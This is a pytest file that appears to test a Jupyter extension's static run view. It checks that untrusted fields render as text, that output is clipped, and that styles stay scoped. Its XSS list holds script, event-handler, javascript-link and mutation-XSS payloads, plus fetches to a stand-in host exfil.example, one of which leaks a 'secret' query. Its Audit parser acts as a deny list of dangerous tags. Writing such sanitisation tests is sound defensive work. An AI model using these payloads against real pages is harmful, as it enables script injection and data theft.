"""The static view of a finished run: attacks through every untrusted field render as text, the
markdown fallback stays text in renderers that allow HTML, big fields are clipped visibly, and the
stylesheet stays within its per-run budget. (Browsers: tests/browser/test_saved_browser.py.)"""

from __future__ import annotations

import base64
from html.parser import HTMLParser
from typing import Any

import pytest

from jupyter_runs import static_view
from jupyter_runs.static_view import (
    CLASS,
    STYLE,
    ViewState,
    bundle,
    md_literal,
    to_html,
    to_markdown,
)

#: Each one sets ``window.__jrPwned`` or fetches from exfil.example if it gets through.
XSS = [
    "<script>window.__jrPwned = 'script'</script>",
    '<img src="https://exfil.example/i.png" onerror="window.__jrPwned = \'onerror\'">',
    "[click me](javascript:window.__jrPwned='link')",
    '<svg onload="window.__jrPwned = \'svg\'"><circle r="5"/></svg>',
    "<iframe src=\"javascript:window.__jrPwned='iframe'\"></iframe>",
    "![img](javascript:window.__jrPwned='img')",
    '<a href="javascript:window.__jrPwned=\'a\'">link</a>',
    "<details open ontoggle=\"window.__jrPwned='toggle'\">x</details>",
    # The old hand-written fence tracker: an indented fence, a backtick in an info string.
    "x\n\n    ```\n<img src=https://exfil.example/fence.png onerror=window.__jrPwned='fence'>",
    "``` `x\n<img src=https://exfil.example/info.png onerror=window.__jrPwned='info'>\n```\n\nafter",
    "[case](JaVaScRiPt:window.__jrPwned='case')",
    "[entity](&#106;avascript:window.__jrPwned='entity')",
    "[hex](&#x6A;avascript&colon;window.__jrPwned='hex')",
    "<a href='jav&#x09;ascript:window.__jrPwned=\"tab\"'>tab</a>",
    "[ref]\n\n[ref]: javascript:window.__jrPwned='ref'",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__jrPwned='mxss'>\">",
    "<svg><style><img src=x onerror=window.__jrPwned='mxss2'></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__jrPwned='mxss3'>",
    "![leak](https://exfil.example/leak.png?d=secret)",
    "$\\href{javascript:window.__jrPwned='math'}{x}$",
    "<style>@import 'https://exfil.example/x.css';</style>",
    '<div style="background:url(https://exfil.example/bg.png)">bg</div>',
]
PAYLOAD = "Here you go:\n\n" + "\n\n".join(XSS)
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()


def attacked_state() -> ViewState:
    """A failed run whose reply, tool argument, tool output, stdout, displays and error all attack."""
    call = {"id": "call_1", "type": "function",
            "function": {"name": "load_sales", "arguments": '{"region": ' + repr(PAYLOAD).replace("'", '"') + "}",
                         "output": PAYLOAD}}
    return {
        "run": {"id": "run_1", "status": "failed", "model": "scripted:x",
                "last_error": {"code": "server_error", "message": PAYLOAD}},
        "prompt": "Show me <b>HTML</b> " + XSS[2],
        "messages": [{"id": "msg_1", "role": "assistant", "status": "completed",
                      "content": [{"type": "text", "text": {"value": PAYLOAD, "annotations": []}}]}],
        "steps": [{"id": "step_1", "type": "tool_calls", "status": "completed",
                   "step_details": {"type": "tool_calls", "tool_calls": [call]}}],
        "records": {"call_1": {"name": "load_sales", "arguments": {"region": PAYLOAD}, "output": PAYLOAD,
                               "status": "completed", "stdout": PAYLOAD, "error": PAYLOAD,
                               "displays": [{"text/html": PAYLOAD}, {"text/markdown": PAYLOAD},
                                            {"image/png": PNG}, {"image/png": "not base64 <script>"}],
                               "started_at": 0.1, "ended_at": 0.3}},
        "approvals": [{"id": "call_1", "name": "load_sales", "arguments": PAYLOAD, "status": "denied"}],
        "meta": {"elapsed": 1.5, "timings": {"step_1": [0.1, 0.3]}, "error": {"message": PAYLOAD}},
    }


class Audit(HTMLParser):
    """Everything a browser could execute or fetch in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in {"script", "iframe", "object", "embed", "svg", "math", "noscript", "form", "input", "link",
                   "meta", "base", "frame", "video", "audio", "source"}:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            squashed = "".join(value.split()).lower()
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name in ("href", "xlink:href", "action", "formaction") and not squashed.startswith(
                    ("http://", "https://", "mailto:")):
                self.problems.append(f"{tag} {name}={value!r}")
            if name in ("src", "srcset", "poster", "background") and not squashed.startswith("data:image/"):
                self.problems.append(f"{tag} {name}={value!r}")
            if name == "style" and ("url(" in squashed or "expression(" in squashed or "@import" in squashed):
                self.problems.append(f"{tag} style={value!r}")


def audit(html: str) -> Audit:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser


def test_attacks_in_every_field_leave_no_script_handler_link_or_fetch() -> None:
    html = to_html(attacked_state())
    found = audit(html)
    assert found.problems == []
    assert found.tags.count("style") == 1 and html.startswith(f"<style>{STYLE}</style>")
    # A remote image is shown as a link to click (never fetched).
    leak = static_view.render_markdown(XSS[18])
    assert leak.startswith('<p><a class="jr-img-link" href="https://exfil.example/leak.png?d=secret"') and "<img" not in leak
    assert found.tags.count("img") == 1  # only the tool's own PNG, as a data: URL
    assert f"data:image/png;base64,{PNG}" in html
    assert "&lt;script&gt;window.__jrPwned" in html  # shown, as text


@pytest.mark.parametrize("renderer", ["markdown-it (html on)", "nbconvert (mistune)"])
def test_markdown_fallback_stays_text_where_raw_html_is_allowed(renderer: str) -> None:
    md = to_markdown(attacked_state())
    if renderer.startswith("markdown-it"):
        from markdown_it import MarkdownIt

        html = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(md)
    else:
        from nbconvert.filters.markdown import markdown2html

        html = markdown2html(md)
    found = audit(html)
    assert found.problems == []  # links only where a renderer autolinks a bare https:// URL
    assert not {"img", "code", "pre"} & set(found.tags)
    assert "&lt;script&gt;" in html


@pytest.mark.parametrize("text", XSS)
def test_md_literal_of_each_vector_renders_to_its_own_text(text: str) -> None:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True})
    rendered = md.render(md_literal(text))
    assert audit(rendered).problems == []
    assert not {"a", "img", "code", "pre"} & set(audit(rendered).tags)
    shown = " ".join(HTMLText.of(rendered).split())
    assert shown == " ".join(text.split())


class HTMLText(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)

    @classmethod
    def of(cls, html: str) -> str:
        parser = cls()
        parser.feed(html)
        return "".join(parser.parts).replace("\u00a0", " ")


def state_with(prompt: str = "Q?", reply: str = "A.", output: Any = None) -> ViewState:
    steps, records = [], {}
    if output is not None:
        steps = [{"id": "step_1", "type": "tool_calls", "status": "completed",
                  "step_details": {"type": "tool_calls", "tool_calls": [
                      {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{}", "output": output}}]}}]
        records = {"c": {"name": "f", "output": output, "status": "completed"}}
    return {"run": {"id": "run_1", "status": "completed", "model": "m"}, "prompt": prompt,
            "messages": [{"id": "m", "role": "assistant", "status": "completed",
                          "content": [{"type": "text", "text": {"value": reply, "annotations": []}}]}],
            "steps": steps, "records": records, "approvals": [], "meta": {"elapsed": 1}}


def test_a_five_megabyte_prompt_is_clipped_with_a_visible_count() -> None:
    big = "x" * 5_000_000
    data = bundle(state_with(prompt=big, reply=big, output=big))
    total = sum(len(v.encode()) for v in data.values())
    assert total < 100_000
    assert f"… {5_000_000 - static_view.MAX_PROMPT:,} more characters" in data["text/html"]
    assert f"… {5_000_000 - static_view.MAX_REPLY:,} more characters" in data["text/html"]
    assert f"… {5_000_000 - static_view.MAX_TOOL_TEXT:,} more characters" in data["text/html"]
    assert "more characters" in data["text/plain"] and "more characters" in data["text/markdown"]


def test_the_stylesheet_is_small_scoped_and_themed() -> None:
    assert len(STYLE.encode()) < 4_500
    rules = [r.split("{")[0] for r in STYLE.replace("}}", "}").split("}") if "{" in r]
    for selector in rules:
        if selector.startswith("@media"):
            continue
        assert "jr-" in selector, selector
    assert "--jp-ui-font-color0" in STYLE and "--vscode-editor-foreground" in STYLE
    assert "prefers-color-scheme:dark" in STYLE


def test_structure_uses_the_live_views_classes() -> None:
    html = to_html(state_with(output='[{"q": 1}]'))
    for name in ("run", "header", "badge", "body", "prompt", "timeline", "step", "step-head", "tool-call",
                 "tool-args", "tool-output", "messages", "message", "role", "md"):
        assert f"'{CLASS[name]}" in html or f" {CLASS[name]}'" in html or f" {CLASS[name]} " in html, name
    assert "<details class='jr-step' data-type='tool_calls' data-status='completed'>" in html
    assert "<summary class='jr-step-head'>" in html


def test_code_keeps_the_live_views_highlight_classes() -> None:
    html = to_html(state_with(reply="```python\nfor r in rows:\n    print(r)\n```"))
    assert "<span class=\"jr-hl-keyword\">for</span>" in html
    assert "<span class=\"jr-hl-built_in\">print</span>" in html


def test_context_reasoning_cost_and_timeless_reach_the_saved_view() -> None:
    """What the other features add to a run shows in its static copy too, and a cassette run's
    copy carries no measured duration (so a replayed notebook writes the same bytes)."""
    from jupyter_runs.static_view import bundle

    state = {
        "run": {"id": "run_1", "status": "completed", "model": "responses:m",
                "usage": {"prompt_tokens": 1000, "completion_tokens": 600, "total_tokens": 1600,
                          "prompt_tokens_details": {"cached_tokens": 400},
                          "completion_tokens_details": {"reasoning_tokens": 500}}},
        "messages": [], "records": {}, "approvals": [], "prompt": "why?",
        "steps": [{"id": "step_r", "type": "reasoning", "status": "completed",
                   "step_details": {"type": "reasoning", "reasoning": {"summary": "Six <b>times</b> seven"}}}],
        "meta": {"elapsed": 2.345, "timings": {"step_r": [0.1, 1.9]}},
        "context": [{"name": "df", "label": "df · DataFrame 3×2 · 120 B", "text": "<table>x</table>"}],
        "prices": {"responses:m": {"input": 1.0, "output": 10.0}},
    }
    data = bundle(state)
    html_ = data["text/html"]
    assert "df · DataFrame 3×2 · 120 B" in html_ and "&lt;table&gt;x&lt;/table&gt;" in html_
    assert "<table>x" not in html_
    assert "Thought" in html_ and "Six" in html_ and "<b>" not in html_
    assert "400 cached" in html_ and "500 reasoning" in html_ and "$" in html_
    assert "2.3 s" in data["text/plain"] or "2.3" in data["text/plain"]
    assert "df · DataFrame" in data["text/plain"] and "df · DataFrame" in data["text/markdown"]
    timeless = bundle({**state, "timeless": True})
    for text in timeless.values():
        assert "2.3" not in text and "1.80" not in text and "1.8 s" not in text
    assert "width:" not in timeless["text/html"].split("</style>", 1)[1]
